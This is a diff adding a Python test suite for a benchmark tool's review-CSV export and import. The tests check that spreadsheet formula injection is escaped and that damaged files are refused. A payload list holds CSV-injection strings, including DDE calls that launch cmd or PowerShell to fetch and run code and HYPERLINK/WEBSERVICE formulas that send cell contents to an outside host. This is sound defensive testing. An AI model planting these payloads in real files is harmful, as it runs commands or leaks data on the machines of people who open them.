@@ -1,0 +1,576 @@
+"""A review CSV between us and a spreadsheet: nothing in it runs, and no damage passes for what people said."""
+
+import csv
+import io
+import re
+import tempfile
+import unicodedata
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from querytruth.backends.files.text_formats import escape_formula, unescape_formula
+from querytruth.errors import UserError
+from querytruth.records import from_arrow, to_arrow
+from querytruth.sets.benchmark_set import Tables
+from querytruth.sets.decision_application import apply_decisions
+from querytruth.sets.decision_records import QueryDecision
+from querytruth.sets.ledger import Ledger
+from querytruth.sets.review_csv import read_review_csv, write_review_csv
+from querytruth.sets.review_tables import (
+    ImportTolerances,
+    ReviewExport,
+    ReviewImportResult,
+    export_judgments,
+    export_queries,
+    read_filled_table,
+)
+
+PAYLOADS = [
+    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x)'!A0", '=HYPERLINK("http://x.example","click")',
+    '=HYPERLINK("http://x.example?"&A1)', "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
+    '=WEBSERVICE("http://x.example/"&A1)', '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
+    "=rundll32|'URL.dll,OpenURL calc'!A", "==1", "=\"a\"&\"b\"", "={1;2}", "=A1:A9", "=@SUM(1)", "=-1", "=+1", "=",
+    "+1", "+1+1", "+cmd|' /C calc'!A0", "+86 138", "+SUM(A1:A9)", "++", "-1", "-1+1", "-2+3+cmd|' /C calc'!A0",
+    "--", "- a list", "−1 with a minus sign", "@SUM(1+9)*cmd|' /C calc'!A0", "@", "@name", "|cmd", "||", "%0A=1+1", "%",
+    "\t=1+1", "\ttab", "\r=1+1", "\rcarriage", "\n=1+1", "\nline", "\r\n=1+1", " =1+1", "   +1", " \t -1",
+    "\u00a0=1+1", "\u3000=一", "\u2003@SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\u2060+1", "\u200e=1+1", "\u00ad=1",
+    "\x0b=1+1", "\x1f=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "｜cmd", "％", "　＝cmd", "﹦1", "﹢1", "﹣1", "⁼1",
+    "₊1", "'=1+1", "''=1+1", "'", "'tis", " '=1", "＇=1", '"=1+1"\n=2+2',
+]  # fmt: skip
+assert len(set(PAYLOADS)) >= 60
+HARMLESS = [
+    "a dog",
+    "",
+    " ",
+    "'",
+    "狗",
+    "1-2",
+    "a=b",
+    "a\r\nb",
+    "a\rb\n",
+    '"',
+    ',";\t',
+    '""',
+    "[=1",
+    "a'",
+    "#NAME?",
+    "nan",
+]
+RISKY = "=+-@|%＝＋－＠｜％−\t\r\n"
+
+LONG = "a very long sentence about a dog that runs " * 8
+TEXTS = [
+    "狗和猫",
+    "  padded  ",
+    "1-2",
+    "007",
+    "true",
+    "=1+1",
+    'a "big" dog',
+    "two\nlines",
+    LONG,
+    "皮鞋",
+    "cat; dog",
+    "-5",
+]
+
+
+def tables_of(texts: list[str], evidence: list[str] | None = None) -> Tables:
+    """A query per text, two judged pictures each."""
+    ids = [f"q_{n:03}" for n in range(len(texts))]
+    queries = {
+        "query_id": ids,
+        "text": texts,
+        "language": "zh",
+        "style": "word",
+        "level": 1,
+        "labels": [["a", "b"]] * len(ids),
+    }
+    images = pd.DataFrame({"image_id": ["img_a", "img_b"], "file_name": ["=a.jpg", "b.jpg"], "width": 9, "height": 9})
+    pairs = [(query, image) for query in ids for image in ("img_a", "img_b")]
+    qrels = pd.DataFrame(pairs, columns=["query_id", "image_id"])
+    qrels["relevance"] = [2, 0] * len(ids)
+    qrels["judged_by"] = "rule"
+    qrels["evidence"] = [e for e in evidence or ["why"] * len(ids) for _ in "ab"]
+    for column in (
+        "path",
+        "sha256",
+        "taken_at",
+        "latitude",
+        "longitude",
+        "duplicate_group",
+        "source_url",
+        "page_url",
+        "licence",
+    ):
+        images[column] = None
+    frames = {"queries": pd.DataFrame(queries), "images": images, "qrels": qrels}
+    return Tables(**{name: from_arrow(to_arrow(name, frame)) for name, frame in frames.items()})
+
+
+def exports_of(tables: Tables) -> tuple[ReviewExport, ReviewExport]:
+    return export_queries(tables, "pets/v1", "d1"), export_judgments(tables, "pets/v1", "d1", 1000)
+
+
+def cells_of(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.reader(file))
+
+
+UNSEEN = "".join(c for c in map(chr, range(0x10000)) if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"))
+
+
+def begins_risky(cell: str) -> bool:
+    return cell.lstrip(UNSEEN).startswith(tuple(RISKY)) or cell.startswith(("\t", "\r", "\n"))
+
+
+@pytest.mark.parametrize("where", ["text", "evidence", "note", "labels"])
+def test_no_cell_begins_a_formula_and_every_cell_comes_back(where: str, tmp_path: Path) -> None:
+    many = PAYLOADS + HARMLESS
+    queries, judgments = exports_of(tables_of(many, many))
+    if where in ("note", "labels"):
+        queries = replace(queries, rows=queries.rows.assign(**{where: many}))
+    for export in (queries, judgments):
+        write_review_csv(export, tmp_path / "out.csv")
+        for row in cells_of(tmp_path / "out.csv"):
+            assert not [cell for cell in row if begins_risky(cell)]
+        back = read_review_csv(tmp_path / "out.csv")
+        assert back.rows.to_dict("list") == export.rows.to_dict("list")
+        assert (back.export_id, back.set_name, back.view, back.sample) == (
+            export.export_id, "pets/v1", export.view, export.sample,
+        )  # fmt: skip
+
+
+@pytest.mark.thorough
+def test_a_note_that_is_a_formula_is_evidence_in_the_next_version_and_still_runs_nowhere(tmp_path: Path) -> None:
+    tables = tables_of(["狗"])
+    for payload in PAYLOADS:
+        grade = QueryDecision("q_000", "狗", "grade", "img_a", relevance=1, note=payload)
+        after, _ = apply_decisions(tables, [grade], Ledger())
+        write_review_csv(export_judgments(after, "pets/v2", "d2", 9), tmp_path / "out.csv")
+        assert not [cell for row in cells_of(tmp_path / "out.csv") for cell in row if begins_risky(cell)]
+        assert payload in list(read_review_csv(tmp_path / "out.csv").rows["evidence"])
+
+
+# Tables are Arrow underneath, so a lone surrogate cannot be in a cell; NUL is refused at the export.
+ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
+SPICED = st.builds(
+    lambda *parts: "".join(parts),
+    st.sampled_from(["", " ", "'", "\u200b", "\r", '"']),
+    st.sampled_from(PAYLOADS),
+    ANY_TEXT,
+)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(st.one_of(ANY_TEXT, SPICED), min_size=1, max_size=6))
+@example(["\r", "\n", "\r\n", '"\r"', "'\r\n"])
+@pytest.mark.thorough
+def test_any_text_comes_back_to_the_letter(texts: list[str]) -> None:
+    export = exports_of(tables_of(texts))[0]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "out.csv"
+        write_review_csv(export, path)
+        assert read_review_csv(path).rows.to_dict("list") == export.rows.to_dict("list")
+        assert not [cell for row in cells_of(path) for cell in row if begins_risky(cell)]
+
+
+@settings(max_examples=500, deadline=None)
+@given(st.one_of(ANY_TEXT, SPICED))
+@pytest.mark.thorough
+def test_the_escape_is_undone_and_nothing_else_is(text: str) -> None:
+    assert unescape_formula(escape_formula(text)) == text
+    assert text.startswith("'") or unescape_formula(text) == text
+
+
+def test_an_apostrophe_that_a_person_typed_stays() -> None:
+    assert unescape_formula("'tis a dog") == "'tis a dog"
+
+
+def test_a_row_links_its_image_and_nothing_of_a_set_gets_into_the_formula(tmp_path: Path) -> None:
+    """Spreadsheets run the cell: all of it but the folder's name is ours."""
+    export = exports_of(tables_of(TEXTS))[1]
+    image = "images/0a/img_0a00.jpg"
+    shown = [image, 'images/0a/img_0a00.jpg","x")&cmd', "https://x.example/a.jpg", "../images/0a/img_0a00.jpg"]
+    export = replace(export, rows=export.rows.iloc[:4].assign(picture=shown))
+    version = tmp_path / 'my "sets" 50%' / "v1"
+    write_review_csv(export, tmp_path / "review" / "judgments.csv", version)
+    links = [row[-1] for row in cells_of(tmp_path / "review/judgments.csv")[1:]]
+    ours = f'=HYPERLINK("./../my%20%22sets%22%2050%25/v1/{image}","open")'
+    assert links == ["open", ours, ours, "", ""]
+    back = read_review_csv(tmp_path / "review/judgments.csv")
+    assert back.rows.to_dict("list") == export.rows.to_dict("list"), "the column is no part of the table"
+
+
+@pytest.mark.parametrize(("cell", "taken"), [("open", True), ("#NAME?", True), ("Err:508", True), ("drop", False)])
+def test_what_a_spreadsheet_makes_of_a_link_is_ignored_and_an_answer_is_not(
+    tmp_path: Path, cell: str, taken: bool
+) -> None:
+    path = tmp_path / "judgments.csv"
+    write_review_csv(exports_of(tables_of(["dog"]))[1], path, tmp_path)
+    rows = cells_of(path)
+    rows[2][-1] = cell
+    path.write_text("\ufeff" + "\r\n".join(",".join(row) for row in rows), encoding="utf-8")
+    if taken:
+        assert len(read_review_csv(path).rows) == 2
+    else:
+        with pytest.raises(UserError, match=r"row 3, column .*: is an answer beside its column"):
+            read_review_csv(path)
+
+
+# --- damage -----------------------------------------------------------------------------------------------------
+
+
+def answered(tmp_path: Path) -> tuple[ReviewExport, Path]:
+    """A really exported file, filled in by a careful person: every kind of answer."""
+    export = exports_of(tables_of(TEXTS))[0]
+    write_review_csv(export, tmp_path / "queries.csv")
+    answers = {"q_000": ("drop", "", "模糊\n两行"), "q_001": ("keep", "", ""), "q_003": ("edit", "零零七", 'a "b", c'),
+               "q_004": ("", "a new text", ""), "q_008": ("DROP", "", "")}  # fmt: skip
+    return export, fill(tmp_path / "queries.csv", answers)
+
+
+def graded(tmp_path: Path) -> tuple[ReviewExport, Path]:
+    export = exports_of(tables_of(TEXTS))[1]
+    write_review_csv(export, tmp_path / "judgments.csv")
+    answers = {
+        "q_000": ("1", None, "half"),
+        "q_001": ("drop", None, ""),
+        "q_002": ("keep", None, "=1+1"),
+        "q_003": ("2", None, ""),
+    }
+    return export, fill(tmp_path / "judgments.csv", answers)
+
+
+def fill(path: Path, answers: dict[str, tuple[str, str | None, str]]) -> Path:
+    first, header, *rows = cells_of(path)
+    for row in rows:
+        for name, value in zip(("decision", "new_text", "note"), answers.pop(row[0], ()), strict=False):
+            if value is not None:
+                row[header.index(name)] = value
+    save(path, [first, header, *rows])
+    return path
+
+
+def save(
+    path: Path, rows: list[list[str]], encoding: str = "utf-8-sig", delimiter: str = ",", line_end: str = "\r\n"
+) -> None:
+    text = io.StringIO(newline="")
+    csv.writer(text, delimiter=delimiter, lineterminator=line_end).writerows(rows)
+    path.write_bytes(text.getvalue().encode(encoding))
+
+
+NO_TOLERANCE = ImportTolerances()
+
+
+def taken(
+    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
+) -> ReviewImportResult:
+    return read_filled_table(export, read_review_csv(path, encoding).rows, allow, "lin", "2026-01-01")
+
+
+def refusal(
+    export: ReviewExport, path: Path, allow: ImportTolerances = NO_TOLERANCE, encoding: str | None = None
+) -> str:
+    """Why a file is refused, all of it; empty where it is taken."""
+    try:
+        reading = taken(export, path, allow, encoding)
+    except UserError as error:
+        return str(error)
+    assert not (reading.problems and reading.decisions)
+    return "\n".join(reading.problems)
+
+
+Rows = list[list[str]]
+
+
+def cell(query: str, column: str, to: Callable[[str], str]) -> Callable[[Rows], Rows]:
+    """One cell of one row comes back otherwise."""
+
+    def damage(rows: Rows) -> Rows:
+        at = rows[1].index(column)
+        return [[*r[:at], to(r[at]), *r[at + 1 :]] if r[0] == query else r for r in rows]
+
+    return damage
+
+
+def column(name: str, to: Callable[[list[str]], list[str] | None]) -> Callable[[Rows], Rows]:
+    """One column, its name included, comes back otherwise or not at all."""
+
+    def damage(rows: Rows) -> Rows:
+        at = rows[1].index(name)
+        new = to([r[at] for r in rows[1:]])
+        return [rows[0], *[[*r[:at], *([] if new is None else [new[n]]), *r[at + 1 :]] for n, r in enumerate(rows[1:])]]
+
+    return damage
+
+
+SAME = "same"
+CELL_DAMAGE: list[tuple[str, Callable[[Rows], Rows], str]] = [
+    ("id truncated", cell("q_003", "query_id", lambda c: c[:-1]), r"row 6, query_id: 'q_00' is not in the export"),
+    ("id upper case", cell("q_003", "query_id", str.upper), r"row 6, query_id: 'Q_003' is not"),
+    ("text trimmed", cell("q_001", "text", str.strip), r"row 4, text: 'padded' was exported as '  padded  '"),
+    ("text emptied", cell("q_001", "text", lambda _: ""), r"row 4, text: ''"),
+    ("digest changed", cell("q_001", "row_digest", lambda c: c[:-1] + "x"), r"row 4, row_digest: "),
+    ("1-2 turned into a date", cell("q_002", "text", lambda _: "2-Jan"), r"row 5, text: '2-Jan' was exported as '1-2'"),
+    ("leading zero lost", cell("q_003", "text", lambda _: "7"), r"row 6, text: '7'"),
+    ("level 1 to 1.0", column("level", lambda cs: [c.replace("1", "1.0") for c in cs]), r"row 3, level: '1.0'"),
+    ("true to TRUE", cell("q_004", "text", str.upper), r"row 7, text: 'TRUE'"),
+    ("formula evaluated", cell("q_005", "text", lambda _: "2"), r"row 8, text: '2' was exported as '=1\+1'"),
+    ("formula to #NAME?", cell("q_005", "text", lambda _: "#NAME?"), r"row 8, text: '#NAME\?'"),
+    ("formula-apostrophe removed", cell("q_005", "text", lambda c: c[1:]), SAME),
+    ("smart quotes", cell("q_006", "text", lambda _: "a “big” dog"), r"row 9, text: 'a “big” dog'"),
+    ("smart quotes in a note", cell("q_000", "decision", lambda _: "“drop”"), r"row 3, decision: '“drop”' is none of"),
+    ("line end in a cell LF to CRLF", cell("q_007", "text", lambda c: c.replace("\n", "\r\n")), SAME),
+    ("line end in a note LF to CRLF", cell("q_000", "note", lambda c: c.replace("\n", "\r\n")), SAME),
+    ("line end in a cell lost", cell("q_007", "text", lambda c: c.replace("\n", " ")), r"row 10, text: 'two lines'"),
+    ("text cut at 255", cell("q_008", "text", lambda c: c[:255]), r"row 11, text: 'a very long"),
+    ("new_text cut at 255", cell("q_003", "new_text", lambda _: LONG[:255]), r"row 6, new_text: .*\(255 characters\)"),
+    ("#NAME? as new_text", cell("q_003", "new_text", lambda _: "#NAME?"), r"row 6, new_text: '#NAME\?'"),
+    ("##### as new_text", cell("q_003", "new_text", lambda _: "########"), r"row 6, new_text: '####"),
+    ("new_text to ???", cell("q_003", "new_text", lambda _: "???"), r"row 6, new_text: '\?\?\?'"),
+    ("note to ??", cell("q_000", "note", lambda _: "??"), r"row 3, note: '\?\?'"),
+    ("new_text with replacement marks", cell("q_003", "new_text", lambda _: "零\ufffd"), r"row 6, new_text: "),
+    ("NUL in a text", cell("q_001", "text", lambda c: c + "\x00"), r"row 4, column 2 .*NUL"),
+    ("NUL in a note", cell("q_001", "note", lambda _: "\x00"), r"row 4, column \d+ .*NUL"),
+    ("decision lost, note left", cell("q_000", "decision", lambda _: ""), r"row 3, note: a note without a decision"),
+    ("decision mistyped", cell("q_000", "decision", lambda _: "dorp"), r"row 3, decision: 'dorp' is none of keep"),
+    ("decision full-width, padded", cell("q_000", "decision", lambda _: "  ＤＲＯＰ　"), SAME),
+    ("edit lost its text", cell("q_003", "new_text", lambda _: " "), r"row 6, new_text: edit needs a new text"),
+    ("trailing empty columns", lambda rows: [[*r, "", "", ""] for r in rows], SAME),
+    ("trailing empty cells cut", lambda rows: [[c for n, c in enumerate(r) if any(r[n:])] for r in rows], SAME),
+    ("trailing empty rows", lambda rows: [*rows, [""] * len(rows[1]), [], [""], [" ", ""]], SAME),
+    ("blank row in the middle", lambda rows: [*rows[:4], [], *rows[4:]], SAME),
+    ("a cell outside", lambda rows: [*rows[:3], [*rows[3], "", "why?"], *rows[4:]], r"row 4, column 15 .*outside"),
+    ("stray cells", lambda rows: [rows[0], [*rows[1], "", ""], [*rows[2], "x", "y"], *rows[3:]], r"row 3, column 14 "),
+    ("columns reordered", lambda rows: [rows[0], *[[*r[5:], *r[:5]] for r in rows[1:]]], SAME),
+    ("columns reversed", lambda rows: [rows[0], *[r[::-1] for r in rows[1:]]], SAME),
+    ("column deleted", column("text", lambda _: None), r"row 2, text: the column is missing"),
+    ("answer column deleted", column("note", lambda _: None), r"row 2, note: the column is missing"),
+    ("header renamed", column("decision", lambda cs: ["Decision", *cs[1:]]), r"row 2, decision: the column is missing"),
+    ("header emptied", column("decision", lambda cs: ["", *cs[1:]]), r"row 3, column 10 "),
+    ("header doubled", column("note", lambda cs: ["decision", *cs[1:]]), r"row 2 .*'decision' is there twice"),
+    ("column added", lambda rows: [rows[0], *[[*r, "extra"] for r in rows[1:]]], r"row 2, 'extra': the column was not"),
+    ("row deleted", lambda rows: [*rows[:4], *rows[5:]], r"row 5 of the export, query_id: q_002 is missing"),
+    ("rows cut off", lambda rows: rows[:6], r"row 7 of the export, query_id: q_004 is missing"),
+    ("row doubled, agreeing", lambda rows: [*rows, rows[2]], r"row 15, query_id: 'q_000' is there twice"),
+    ("row contradicted", lambda rows: [*rows, [c.replace("drop", "keep") for c in rows[2]]], "row 15, .*not the same"),
+    ("row added", lambda rows: [*rows, ["q_999", "new", *rows[2][2:]]], r"row 15, query_id: 'q_999' is not in"),
+    ("rows sorted otherwise", lambda rows: [*rows[:2], *sorted(rows[2:], key=lambda r: r[1])], SAME),
+    ("one column sorted alone", column("text", lambda cs: [cs[0], *sorted(cs[1:])]), r"row 3, text: "),
+    ("ids moved up by one", column("query_id", lambda cs: [cs[0], *cs[2:], cs[1]]), r"row 3, text: "),
+    ("first line lost", lambda rows: rows[1:], r"row 1 .*does not name an export"),
+    ("two lines swapped", lambda rows: [rows[1], rows[0], *rows[2:]], r"row 1 .*does not name an export"),
+    ("columns' names lost", lambda rows: [rows[0], *rows[2:]], r"row 2 "),
+    ("only the first line left", lambda rows: rows[:1], r"row 2 .*no column names"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("damage", "says"), [d[1:] for d in CELL_DAMAGE], ids=[d[0] for d in CELL_DAMAGE])
+@pytest.mark.thorough
+def test_damage_is_refused_with_its_row_or_changes_no_decision(
+    damage: Callable[[Rows], Rows], says: str, tmp_path: Path
+) -> None:
+    export, path = answered(tmp_path)
+    undamaged = taken(export, path).decisions
+    assert [(d.query_id, d.decision) for d in undamaged] == [
+        ("q_000", "drop"), ("q_001", "keep"), ("q_003", "edit"), ("q_004", "edit"), ("q_008", "drop"),
+    ]  # fmt: skip
+    save(path, damage(cells_of(path)))
+    if says == SAME:
+        key = QueryDecision.as_json
+        assert sorted(taken(export, path).decisions, key=key) == sorted(undamaged, key=key)
+    else:
+        assert re.search(says, refusal(export, path))
+
+
+FILE_DAMAGE: list[tuple[str, Callable[[bytes], bytes], str]] = [
+    ("mark at the start removed, as LibreOffice does", lambda data: data[3:], SAME),
+    ("mark doubled", lambda data: b"\xef\xbb\xbf" + data, SAME),
+    ("saved as GB18030", lambda data: data.decode("utf-8-sig").encode("gb18030"), "--encoding gb18030"),
+    ("saved as GBK", lambda data: data.decode("utf-8-sig").encode("gbk"), "--encoding gb18030"),
+    ("saved as cp1252", lambda data: data.decode("utf-8-sig").encode("cp1252", "replace"), r"row 3, text: '\?\?\?'"),
+    ("UTF-16", lambda data: data.decode("utf-8-sig").encode("utf-16"), SAME),
+    ("UTF-16 big-endian", lambda data: b"\xfe\xff" + data.decode("utf-8-sig").encode("utf-16-be"), SAME),
+    ("UTF-16 without its mark", lambda data: data.decode("utf-8-sig").encode("utf-16-le"), "does not say its encoding"),
+    ("UTF-16 cut in half a character", lambda data: data.decode("utf-8-sig").encode("utf-16")[:-1], "is no utf-16"),
+    ("line ends LF", lambda data: data.replace(b"\r\n", b"\n"), SAME),
+    ("line ends CR", lambda data: data.replace(b"\r\n", b"\r"), SAME),
+    ("all line ends CR, in cells too", lambda data: data.replace(b"\r\n", b"\r").replace(b"\n", b"\r"), SAME),
+    ("line ends CRLF, in cells too", lambda data: data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"), SAME),
+    ("cut in the middle", lambda data: data[: len(data) * 2 // 3], r"row \d+"),
+    ("last line end gone", lambda data: data[:-2], SAME),
+    ("a stray byte", lambda data: data.replace(b"padded", b"pad\xffded"), r"line 5 .*is no utf-8"),
+    ("a lone surrogate", lambda data: data.replace(b"padded", b"\xed\xa0\x80"), r"line 5 .*is no utf-8"),
+    ("NUL bytes at the end", lambda data: data + b"\x00" * 512, r"row 15, column 1 .*NUL"),
+    ("zeroed block", lambda data: data[:200] + b"\x00" * 100 + data[300:], r"row \d+"),
+    ("empty", lambda data: b"", "row 1 .*does not name an export"),
+    ("a web page", lambda data: b"<html><body>404</body></html>", "row 1 .*does not name an export"),
+    ("quotes stripped", lambda data: data.replace(b'"', b""), r"row \d+"),
+    ("delimiters replaced in the file", lambda data: data.replace(b",", b"|"), r"row 2, "),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("damage", "says"), [d[1:] for d in FILE_DAMAGE], ids=[d[0] for d in FILE_DAMAGE])
+@pytest.mark.thorough
+def test_a_damaged_file_is_refused_or_read_alike(damage: Callable[[bytes], bytes], says: str, tmp_path: Path) -> None:
+    export, path = answered(tmp_path)
+    undamaged = taken(export, path).decisions
+    path.write_bytes(damage(path.read_bytes()))
+    if says == SAME:
+        assert taken(export, path).decisions == undamaged
+    else:
+        assert re.search(says, refusal(export, path))
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gb18030", "gbk", "utf-8"])
+@pytest.mark.thorough
+def test_every_way_in_which_spreadsheets_save_is_read_alike(delimiter: str, encoding: str, tmp_path: Path) -> None:
+    for export, path in (answered(tmp_path), graded(tmp_path)):
+        undamaged = taken(export, path).decisions
+        save(path, cells_of(path), encoding, delimiter, line_end="\n")
+        told = None if encoding in ("utf-8-sig", "utf-16", "utf-8") else encoding
+        assert taken(export, path, encoding=told).decisions == undamaged
+        if told is not None:
+            assert "--encoding" in refusal(export, path)
+
+
+def test_utf8_without_its_mark_is_read_where_the_digests_prove_it(tmp_path: Path) -> None:
+    """LibreOffice 7.4 has no way to save the mark."""
+    export, path = answered(tmp_path)
+    undamaged = taken(export, path).decisions
+    path.write_bytes(path.read_bytes()[3:])
+    assert taken(export, path).decisions == undamaged
+
+
+def test_gbk_that_is_valid_utf8_by_accident_is_refused(tmp_path: Path) -> None:
+    by_accident = "Āć".encode().decode("gbk")
+    for texts in (["a cat", "a dog"], ["a cat", by_accident]):
+        export = exports_of(tables_of(texts))[0]
+        write_review_csv(export, tmp_path / "queries.csv")
+        path = fill(tmp_path / "queries.csv", {"q_000": ("edit", by_accident, "")})
+        data = path.read_bytes().decode("utf-8-sig").encode("gbk")
+        assert data.decode("utf-8"), "it is valid UTF-8"
+        path.write_bytes(data)
+        assert "--encoding gb18030" in refusal(export, path)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+@pytest.mark.thorough
+def test_a_file_with_every_text_cell_quoted_is_read_alike(delimiter: str, tmp_path: Path) -> None:
+    """Also the first line, with its mark and the empty cells after it."""
+    for export, path in (answered(tmp_path), graded(tmp_path)):
+        undamaged = taken(export, path).decisions
+        first, *rows = cells_of(path)
+        padded = [*first, *[""] * (len(rows[0]) - len(first))]
+        text = io.StringIO(newline="")
+        csv.writer(text, delimiter=delimiter, quoting=csv.QUOTE_ALL).writerows([padded, *rows])
+        path.write_bytes(text.getvalue().encode("utf-8-sig"))
+        assert taken(export, path).decisions == undamaged
+
+
+@pytest.mark.parametrize("wrong", ["latin-1", "cp1252", "gbk", "gb18030", "big5", "utf-16", "utf-32", "shift_jis"])
+@pytest.mark.thorough
+def test_a_wrong_encoding_is_refused(wrong: str, tmp_path: Path) -> None:
+    export, path = answered(tmp_path)
+    path.write_bytes(path.read_bytes()[3:])
+    assert refusal(export, path, encoding=wrong)
+
+
+@pytest.mark.parametrize("name", ["klingon", "base64", "idna", "a\x00b", "undefined"])
+def test_an_encoding_that_is_none_is_named(name: str, tmp_path: Path) -> None:
+    export, path = answered(tmp_path)
+    path.write_bytes(path.read_bytes()[3:])
+    assert "give --encoding" in refusal(export, path, encoding=name)
+
+
+GRADE_CELLS = [("２", 2), ("2.0", 2), (" 1 ", 1), ("１．０", 1), ("0", 0), ("0.00", 0)]
+NO_GRADES = ["3", "-1", "1.5", "2,0", "1-2", "2-Jan", "1e0", "9" * 5000, "grade", "edit", "yes", "٣", "#REF!", "½"]
+
+
+@pytest.mark.parametrize(("said", "meant"), GRADE_CELLS)
+@pytest.mark.thorough
+def test_a_grade_is_read_as_it_was_meant(said: str, meant: int, tmp_path: Path) -> None:
+    export, path = graded(tmp_path)
+    save(path, cell("q_000", "decision", lambda _: said)(cells_of(path)))
+    first, second = (d for d in taken(export, path).decisions if d.query_id == "q_000")
+    assert (first.decision, first.relevance) == (second.decision, second.relevance) == ("grade", meant)
+
+
+@pytest.mark.parametrize("said", NO_GRADES)
+@pytest.mark.thorough
+def test_what_is_no_grade_is_refused(said: str, tmp_path: Path) -> None:
+    export, path = graded(tmp_path)
+    save(path, cell("q_000", "decision", lambda _: said)(cells_of(path)))
+    assert re.search(r"row 3, decision: .* is none of keep, drop, 0, 1, 2", refusal(export, path))
+
+
+ALLOWED: dict[str, Callable[[Rows], Rows]] = {
+    "missing": lambda rows: [*rows[:4], *rows[5:]],
+    "doubled": lambda rows: [*rows, rows[2]],
+    "unknown": lambda rows: [*rows, ["q_999", *rows[2][1:]]],
+    "changed": cell("q_002", "text", lambda _: "2-Jan"),
+}
+
+
+@pytest.mark.parametrize("case", ALLOWED)
+@pytest.mark.parametrize("flag", ALLOWED)
+@pytest.mark.thorough
+def test_each_flag_allows_its_own_case_and_no_other(case: str, flag: str, tmp_path: Path) -> None:
+    export, path = answered(tmp_path)
+    undamaged = taken(export, path).decisions
+    save(path, ALLOWED[case](cells_of(path)))
+    allow = ImportTolerances(**{flag: True})
+    if case == flag:
+        assert taken(export, path, allow).decisions == undamaged
+    else:
+        assert "row " in refusal(export, path, allow)
+
+
+def test_all_flags_together_still_refuse_what_none_allows(tmp_path: Path) -> None:
+    export, path = answered(tmp_path)
+    everything = ImportTolerances(True, True, True, True)
+    rows = cells_of(path)
+    hopeless = [
+        "column deleted",
+        "row contradicted",
+        "#NAME? as new_text",
+        "decision mistyped",
+        "first line lost",
+    ]
+    for damage, says in [(damage, says) for name, damage, says in CELL_DAMAGE if name in hopeless]:
+        save(path, damage(rows))
+        assert re.search(says, refusal(export, path, everything))
+
+
+def test_a_row_number_is_the_spreadsheet_s_and_not_the_line_s(tmp_path: Path) -> None:
+    """A cell with line ends is one row."""
+    export, path = answered(tmp_path)
+    save(path, cell("q_008", "decision", lambda _: "perhaps")(cells_of(path)))
+    assert refusal(export, path).startswith("row 11, decision")
+
+
+def test_what_is_no_review_file_is_named(tmp_path: Path) -> None:
+    import os
+
+    os.mkfifo(tmp_path / "pipe")
+    for path, says in (
+        (tmp_path, "is no file"),
+        (tmp_path / "pipe", "is no file"),
+        (tmp_path / "none.csv", "No such file"),
+    ):
+        with pytest.raises(UserError, match=says):
+            read_review_csv(path)
+
+
+def test_a_text_with_nul_is_refused_at_the_export(tmp_path: Path) -> None:
+    with pytest.raises(UserError, match=r"row 4 .*NUL"):
+        write_review_csv(exports_of(tables_of(["a", "b\x00c"]))[0], tmp_path / "out.csv")
+    assert not (tmp_path / "out.csv").exists()
